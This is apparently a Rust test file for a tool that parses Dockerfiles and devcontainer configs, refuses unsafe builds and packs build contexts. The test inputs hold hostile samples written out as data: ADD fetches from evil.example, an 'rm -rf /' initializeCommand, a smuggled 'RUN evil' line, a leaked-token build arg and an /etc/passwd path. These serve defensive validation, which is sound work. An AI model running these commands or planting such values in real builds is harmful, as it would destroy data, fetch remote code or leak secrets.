//! What is read of a Dockerfile, a devcontainer and a context, and what of them is refused.

use std::collections::{BTreeMap, BTreeSet};

use proptest::prelude::*;

use super::devcontainer::Devcontainer;
use super::ignored::Ignored;
use super::*;

fn parse(text: &str) -> Result<Dockerfile, String> {
    with_args(text, &[], None)
}

fn with_args(text: &str, args: &[(&str, &str)], target: Option<&str>) -> Result<Dockerfile, String> {
    let args = args.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    Dockerfile::parse("Dockerfile", text, &args, target).map_err(|e| e.to_string())
}

#[track_caller]
fn refused(text: &str) -> String {
    parse(text).expect_err(text)
}

fn runs(file: &Dockerfile) -> Vec<(usize, &str)> {
    file.runs().map(|line| (line.number, line.rest.as_str())).collect()
}

#[test]
fn lines_are_joined_and_comments_within_them_are_gone() {
    let text = "# a comment\n\nfrom debian:12\nRUN one && \\\n    # not this\n\n    two \\\n  && three   \nrun four\\\n five\n";
    let file = parse(text).unwrap();
    assert_eq!(runs(&file), [(4, "one &&     two   && three"), (9, "four five")]);
    assert_eq!(file.bases(), BTreeMap::from([("debian:12", 3)]));
    let windows = parse("FROM x\r\nRUN a \\\r\n  b\r\n").unwrap();
    assert_eq!(runs(&windows), [(2, "a   b")]);
    let open = parse("FROM x\nRUN a \\\n").unwrap();
    assert_eq!(runs(&open), [(2, "a")], "the end of the file ends the line");
}

#[test]
fn the_escape_directive_counts_at_the_very_top_alone() {
    let file = parse("# syntax=docker/dockerfile:1\n# escape=`\nFROM x\nRUN dir c:\\ `\n && two\n").unwrap();
    assert_eq!((file.escape, runs(&file)), ('`', vec![(4, "dir c:\\  && two")]));
    let late = parse("FROM x\n# escape=`\nRUN a \\\n b\n").unwrap();
    assert_eq!((late.escape, runs(&late)), ('\\', vec![(3, "a  b")]));
    assert!(refused("# escape=x\nFROM x\n").contains("escape"));
}

#[test]
fn what_two_builders_would_read_in_two_ways_is_refused() {
    assert!(refused("FROM x\nRUN a \\\\\nADD b /c\n").starts_with("Dockerfile:2: "));
    for hidden in ["RUN a\u{b}RUN b", "RUN a\rRUN b", "RUN a\u{2028}RUN b", "RUN a\0b"] {
        assert!(refused(&format!("FROM x\n{hidden}\n")).contains("end of a line"), "{hidden:?}");
    }
    for heredoc in [
        "RUN <<EOF\necho\nEOF",
        "RUN cat <<-'EOF' > x\nEOF",
        "COPY <<x /y\nx",
        "RUN 3<<EOF cat\nEOF",
        "RUN python3 <<\"E\"\nE",
    ] {
        assert!(refused(&format!("FROM x\n{heredoc}\n")).contains("here-document"), "{heredoc}");
    }
    let shifts = parse("FROM x\nRUN echo $((1<<2)) && cat <<< word\n").unwrap();
    assert_eq!(runs(&shifts).len(), 1);
}

#[test]
fn what_an_image_is_built_on_is_known_before() {
    let text = "ARG TAG=12\nARG BASE=debian:${TAG}\nFROM --platform=$BUILDPLATFORM \"$BASE\" AS Build\nRUN a\n\
                FROM build AS test\nCOPY --from=alpine:3 /a /b\nCOPY --chown=1:1 --from=0 /a /b\nFROM scratch\n\
                COPY --from=Test /x /x\n";
    let file = parse(text).unwrap();
    assert_eq!(file.bases(), BTreeMap::from([("debian:12", 3), ("alpine:3", 6)]));
    assert_eq!(file.stages[1].base, Base::Stage("build".to_owned()));
    assert_eq!(file.stages[2].base, Base::Scratch);
    let given = with_args(text, &[("TAG", "13")], None).unwrap();
    assert!(given.bases().contains_key("debian:13"));
    for (default, image) in
        [("${X:-other}", "other"), ("${TAG:+set}", "set"), ("${X:+set}none", "none"), ("a${TAG}b", "a12b")]
    {
        let file = parse(&format!("ARG TAG=12\nFROM {default}\n")).unwrap();
        assert!(file.bases().contains_key(image), "{default}");
    }
    for bad in [
        "FROM ${X}",
        "FROM ${X:?no}",
        "FROM ${X:-${Y}}",
        "FROM $",
        "FROM '$X'",
        "FROM a\\b",
        "FROM a b",
        "FROM --x a",
    ] {
        parse(bad).expect_err(bad);
    }
}

#[test]
fn only_stages_up_to_the_wanted_one_are_built() {
    let text = "FROM a AS one\nRUN 1\nFROM b AS two\nRUN 2\nFROM none-such\nRUN 3\n";
    let file = with_args(text, &[], Some("TWO")).unwrap();
    assert_eq!((file.stages.len(), file.bases().len()), (2, 2));
    assert_eq!(with_args(text, &[], Some("0")).unwrap().stages.len(), 1);
    assert!(with_args(text, &[], Some("four")).unwrap_err().contains("\"four\""));
}

#[test]
fn the_engine_is_given_nothing_to_fetch() {
    for add in [
        "https://evil.example/x /x",
        "--chown=1:1 https://evil.example/x /x",
        "$URL /x",
        "[\"http\\u003a//evil.example/x\", \"/x\"]",
        "git@evil.example:x /x",
        "http\\://evil.example/x /x",
        "\"https\":\"//evil.example/x\" /x",
    ] {
        let text = format!("ARG URL=https://evil.example/x\nFROM x\nARG URL\nADD {add}\n");
        assert!(refused(&text).contains("past the gateway"), "{add}");
    }
    parse("FROM x\nADD --chown=1:1 a.tar b/*.txt /x/\n").unwrap();
    for more in
        ["ADD --checksum=sha256:0 a /b", "COPY --link a /b", "RUN --mount=type=ssh a", "RUN --network=host a"]
    {
        assert!(refused(&format!("FROM x\n{more}\n")).contains("BuildKit"), "{more}");
    }
    assert!(refused("FROM x\nONBUILD ADD https://evil.example/x /x\n").contains("ONBUILD"));
    assert!(refused("FROM x\nCOPY --from=$X /a /b\n").contains("no name of an image"));
    assert!(refused("FROM x\nCOPY --from=0 /a /b\n").contains("no such stage"));
    assert!(refused("FROM x\nRUNX a\n").contains("no instruction"));
    assert!(refused("FROM x AS scratch\n").contains("no name of a stage"));
}

#[test]
fn what_the_engine_gets_is_the_same_on_images_by_digest() {
    let text = "ARG V=1\nFROM debian AS a\nARG V\nRUN one \\\n two\nLABEL hotcell.cell=x\nFROM a\n\
                COPY --from=alpine /x /y\nUSER 7\nCMD [\"x\"]\n";
    let file = parse(text).unwrap();
    let map = |pairs: &[(&str, &str)]| -> BTreeMap<String, String> {
        pairs.iter().map(|(key, value)| ((*key).to_owned(), (*value).to_owned())).collect()
    };
    let text = generate(
        &file,
        &map(&[("debian", "sha256:d"), ("alpine", "sha256:a")]),
        &map(&[("hotcell.build", "j1")]),
        &BTreeSet::from(["PIP_CERT".to_owned()]),
        &map(&[("GREETING", "a \"b\" $c\\d")]),
        &Authorities { names: vec!["ca.pem"] },
    );
    let expected = "# escape=\\\nARG V=1\nFROM sha256:d AS a\nLABEL hotcell.build=\"j1\"\nARG PIP_CERT\n\
        COPY .hotcell-build/ca.pem /.hotcell/\nARG V\nRUN one  two\nFROM a\nLABEL hotcell.build=\"j1\"\n\
        COPY --from=sha256:a /x /y\nUSER 7\nCMD [\"x\"]\nENV GREETING=\"a \\\"b\\\" \\$c\\\\d\"\n\
        COPY .hotcell-build/empty-ca.pem /.hotcell/ca.pem\n";
    assert_eq!(text, expected);
    // It reads as what it was written from.
    let again = parse(&text).unwrap();
    assert_eq!(again.runs().map(|line| &line.rest).collect::<Vec<_>>(), ["one  two"]);
}

#[test]
fn a_devcontainer_says_how_it_is_built_and_what_runs_in_the_cell() {
    let text = r#"{
        // comments, and a comma too many
        "name": "x", "customizations": {},
        "build": { "dockerfile": "../Dockerfile", "context": "..", "args": { "A": "1" }, "target": "dev", "options": ["--net=host"] },
        "onCreateCommand": "first", "postCreateCommand": ["a", "b c"],
        "updateContentCommand": { "x": "second", "y": ["third"] }, "postStartCommand": "",
        "initializeCommand": "rm -rf /", "postAttachCommand": "x",
        "containerEnv": { "ONE": "1", "BAD NAME": "x", "HOST": "${localEnv:X}" }, "remoteEnv": { "TWO": "2" },
        "privileged": true, "capAdd": ["SYS_ADMIN"], "features": {},
    }"#;
    let found = Devcontainer::parse(text).unwrap();
    assert_eq!((found.dockerfile.as_deref(), found.target.as_deref()), (Some("../Dockerfile"), Some("dev")));
    let setup: Vec<String> = found.setup.iter().map(StepCommand::words).collect();
    assert_eq!(setup, ["first", "second", "third", "a b c"]);
    assert_eq!(found.env.keys().collect::<Vec<_>>(), ["ONE", "TWO"]);
    let told = found.told.join("\n");
    for words in [
        "build.options is left out",
        "initializeCommand never runs",
        "rm -rf /",
        "containerEnv.HOST",
        "capAdd, privileged",
    ] {
        assert!(told.contains(words), "{words}: {told}");
    }
}

#[test]
fn a_devcontainer_that_would_be_another_one_is_refused_by_name() {
    for (text, words) in [
        ("{ \"dockerComposeFile\": \"x.yml\", \"image\": \"x\" }", "dockerComposeFile"),
        ("{ \"image\": \"x\", \"features\": { \"ghcr.io/x\": {} } }", "features"),
        (
            "{ \"build\": { \"dockerfile\": \"x\", \"args\": { \"A\": \"${localEnv:TOKEN}\" } } }",
            "variable of the host",
        ),
        ("{}", "neither build.dockerfile nor image"),
        ("[]", "no JSON object"),
        ("{ \"image\": ", "no JSON with comments"),
        ("{ \"image\": \"x\", \"postCreateCommand\": { \"a\": { \"b\": \"c\" } } }", "nested"),
        ("{ \"build\": { \"dockerfile\": \"${localWorkspaceFolder}/x\" } }", "names a variable"),
    ] {
        let error = Devcontainer::parse(text).expect_err(text);
        assert!(error.contains(words), "{text}: {error}");
    }
    let deep = "[".repeat(60_000);
    Devcontainer::parse(&deep).expect_err("deep");
}

fn found(files: &[(&str, &str)]) -> Result<Recipe, String> {
    let read =
        |name: &str| Ok(files.iter().find(|(file, _)| *file == name).map(|(_, text)| (*text).to_owned()));
    super::find::find(read).map_err(|e| e.to_string())
}

#[test]
fn the_devcontainer_comes_first_and_its_paths_stay_in_the_workspace() {
    let devcontainer = ".devcontainer/devcontainer.json";
    let recipe = found(&[
        (devcontainer, r#"{"build":{"dockerfile":"D"}}"#),
        (".devcontainer/D", "FROM x\n"),
        ("Dockerfile", "FROM y\n"),
    ]);
    let recipe = recipe.unwrap();
    assert_eq!(
        (recipe.dockerfile.as_deref(), recipe.context.as_str()),
        (Some(".devcontainer/D"), ".devcontainer")
    );
    let image = found(&[(".devcontainer.json", r#"{"image":"x:1"}"#)]).unwrap();
    assert_eq!(
        (image.dockerfile.as_deref(), image.text.as_str(), image.context.as_str()),
        (None, "FROM x:1\n", "")
    );
    assert_eq!(found(&[("Containerfile", "FROM y\n")]).unwrap().source, "Containerfile");
    for (text, words) in [
        (r#"{"build":{"dockerfile":"../../D"}}"#, "leads out of the workspace"),
        (r#"{"build":{"dockerfile":"/etc/passwd"}}"#, "leads out of the workspace"),
        (r#"{"build":{"dockerfile":"D","context":"../.."}}"#, "leads out of the workspace"),
        (r#"{"build":{"dockerfile":"gone"}}"#, "gone is named by"),
        ("{\"image\":\"x\\nRUN evil\"}", "FROM is written"),
    ] {
        let error = found(&[(devcontainer, text), (".devcontainer/D", "FROM x\n")]);
        let error =
            error.and_then(|recipe| recipe.parsed().map_err(|e| e.to_string()).map(|_| ())).map(|()| text);
        // A line that was smuggled in is listed like any other.
        match error {
            Err(error) => assert!(error.contains(words), "{text}: {error}"),
            Ok(text) => assert!(text.contains("evil"), "{text}"),
        }
    }
    assert!(found(&[]).unwrap_err().contains("there is nothing to build"));
}

#[test]
fn the_list_names_every_line_that_runs_and_is_bounded() {
    let text = format!("FROM x\n{}", "RUN something long\n".repeat(500));
    let recipe = found(&[("Dockerfile", &text)]).unwrap();
    let lines = list(&recipe, &recipe.parsed().unwrap());
    assert!(lines.len() <= 201 && lines.last().unwrap().starts_with("and 302 more"), "{:?}", lines.last());
    assert_eq!(lines[1], "Dockerfile:1: FROM x");
    assert_eq!(lines[2], "Dockerfile:2: the engine will run as root: something long");
}

#[test]
fn patterns_of_dockerignore_are_anchored_and_the_last_one_holds() {
    let ignored = Ignored::parse(
        "# no\nnode_modules\n*/temp*\n**/*.log\n*.md\n!README.md\n/target/\nout/**\n!out/keep\n",
    )
    .unwrap();
    for (path, out) in [
        ("node_modules", true),
        ("node_modules/a/b", true),
        ("sub/node_modules", false),
        ("sub/temporary", true),
        ("sub/deep/temporary", false),
        ("a.log", true),
        ("a/b/c.log", true),
        ("x.md", true),
        ("README.md", false),
        ("sub/x.md", false),
        ("target/debug", true),
        ("out/x", true),
        ("out/keep", false),
        ("src/main.rs", false),
    ] {
        assert_eq!(ignored.leaves_out(path), out, "{path}");
    }
    assert!(!ignored.is_final() && Ignored::parse("a\nb").unwrap().is_final());
    assert!(Ignored::parse("a[").unwrap_err().contains(".dockerignore"));
}

#[test]
fn a_context_is_what_may_be_read_and_is_not_hidden() {
    use std::os::fd::AsFd;
    let dir = tempfile::tempdir().unwrap();
    let put = |name: &str, text: &str| {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    };
    put("app/src/main.c", "int main;");
    put("app/.env", "SECRET");
    put("app/.hotcell-build/Dockerfile", "FROM evil");
    put("app/.dockerignore", "skip\n");
    put("app/skip/x", "x");
    put("app/.git/config", "token");
    put("app/src/.git", "gitdir: x");
    put("outside", "outside");
    std::os::unix::fs::symlink("../outside", dir.path().join("app/link")).unwrap();
    let limits = PackLimits { bytes_max: 100, entries_max: 100, time_max: std::time::Duration::from_secs(5) };
    let packed = |limits: PackLimits| {
        let top = std::fs::File::open(dir.path()).unwrap();
        let context = Context { dir: "app".to_owned(), hide: vec![".env".to_owned()], limits };
        pack(top.as_fd(), &context, tempfile::tempfile().unwrap())
    };
    let first = packed(limits).unwrap();
    assert_eq!((first.files, first.hidden), (2, 1));
    let hash = first.hash.clone();
    let tar = first.finish(&[("Dockerfile".to_owned(), b"FROM ours".to_vec())]).unwrap();
    let mut names = Vec::new();
    for entry in tar::Archive::new(tar).entries().unwrap() {
        let entry = entry.unwrap();
        names.push(entry.path().unwrap().display().to_string());
        assert_eq!(entry.header().uid().unwrap(), 0);
        if entry.header().entry_type().is_symlink() {
            assert_eq!(
                entry.link_name().unwrap().unwrap().to_str(),
                Some("../outside"),
                "as it is, never followed"
            );
        }
    }
    assert_eq!(names, [".dockerignore", "link", "src", "src/main.c", ".hotcell-build/Dockerfile"]);
    assert_eq!(packed(limits).unwrap().hash, hash);
    put("app/src/main.c", "int MAIN;");
    assert_ne!(packed(limits).unwrap().hash, hash);
    let error = packed(PackLimits { bytes_max: 5, ..limits }).unwrap_err().to_string();
    assert!(error.contains("0 MiB") && error.contains(".dockerignore"), "{error}");
    packed(PackLimits { entries_max: 2, ..limits }).unwrap_err();
}

proptest! {
    #[test]
    fn whatever_is_read_is_written_as_the_same_lines(
        lines in prop::collection::vec(prop::sample::select(vec![
            "RUN a", "RUN a \\", " b", "# c", "", "COPY a /b", "ADD a /b", "ENV A=b", "FROM x", "FROM x AS y", "FROM y",
            "CMD [\"a\"]", "\\", "RUN a \\ ", "ARG A=1", "LABEL a=b", "  RUN b", "RUN \"\\",
        ]), 0..12),
    ) {
        let Ok(file) = parse(&lines.join("\n")) else { return Ok(()) };
        let none = BTreeMap::new();
        let text = generate(&file, &none, &none, &BTreeSet::new(), &none, &Authorities::default());
        let again = parse(&text).map_err(TestCaseError::fail)?;
        let kept = |file: &Dockerfile| -> Vec<Vec<String>> {
            let line = |line: &Line| (line.instruction != Instruction::Label).then(|| line.rest.clone());
            file.stages.iter().map(|stage| stage.lines.iter().filter_map(line).collect()).collect()
        };
        prop_assert_eq!(kept(&file), kept(&again));
        prop_assert_eq!(text.lines().filter(|line| line.starts_with("FROM ")).count(), file.stages.len());
    }

    #[test]
    fn no_text_of_a_repository_panics(text in "[A-Z$\\\\{}:`\"'\\[<# \n-]{0,80}") {
        let _ = parse(&format!("FROM x\n{text}"));
        let _ = parse(&text);
        let _ = Devcontainer::parse(&text);
        let _ = Ignored::parse(&text);
    }
}
